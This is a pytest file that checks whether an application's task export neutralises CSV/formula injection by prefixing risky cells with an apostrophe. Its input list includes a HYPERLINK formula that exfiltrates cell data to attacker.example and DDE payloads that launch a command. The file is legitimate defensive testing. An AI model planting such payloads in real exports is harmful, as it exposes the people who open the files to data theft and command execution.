"""No cell runs as a formula in a spreadsheet (OWASP, "CSV Injection"), and every text can be had back."""

import pytest

from tests.support.api import Api, Person
from tests.support.exports import export

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\tx",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://attacker.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=",
]
APOSTROPHES = ["'", "'=1+1", "''=1+1", "'tis the season", "'\t"]
HARMLESS = [
    "plain",
    "a=b",
    "1+1",
    "well-known",
    "me@example.com",
    "test",
    "rn",
    "next",
    "tab\tin between",
    "\\t",
    "s",
    "*bold*",
    "# heading",
    "1 - 2",
    "",
    "don't",
]


def cells(api: Api, person: Person, texts: list[str]) -> dict[str, str]:
    """Each text, and the cell that it becomes as a task's description."""
    for number, text in enumerate(texts):
        api.as_(person).create_task(str(number), description=text)
    return {texts[int(row["title"])]: row["description"] for row in export(api.as_(person))}


def test_what_could_run_begins_with_an_apostrophe(api: Api, alice: Person) -> None:
    seen = cells(api, alice, FORMULAS)

    assert seen == {text: "'" + text for text in FORMULAS}


def test_a_text_that_begins_with_an_apostrophe_gets_one_more(api: Api, alice: Person) -> None:
    seen = cells(api, alice, APOSTROPHES)

    assert seen == {text: "'" + text for text in APOSTROPHES}


def test_taking_one_apostrophe_away_gives_back_every_text(api: Api, alice: Person) -> None:
    seen = cells(api, alice, FORMULAS + APOSTROPHES + HARMLESS)

    assert [cell.removeprefix("'") for cell in seen.values()] == list(seen)


def test_what_cannot_run_stays_as_it_is(api: Api, alice: Person) -> None:
    seen = cells(api, alice, HARMLESS)

    assert seen == {text: text for text in HARMLESS}


@pytest.mark.parametrize("formula", ["=1+1", "＠SUM(A1)"])
def test_titles_and_names_cannot_run_either(api: Api, formula: str) -> None:
    email = api.register("Plain").email
    api.post("/auth/register", {"email": f"formula-{email}", "password": "x" * 12, "display_name": formula})
    person = api.as_(api.sign_in(f"formula-{email}", "x" * 12))
    team = person.create_team(name=formula)
    person.create_task(formula, team_id=team["id"], assignee={"team_id": team["id"]})

    [row] = export(person)

    inert = {name for name, cell in row.items() if cell == "'" + formula}
    assert inert == {"title", "assignee", "team", "creator"}
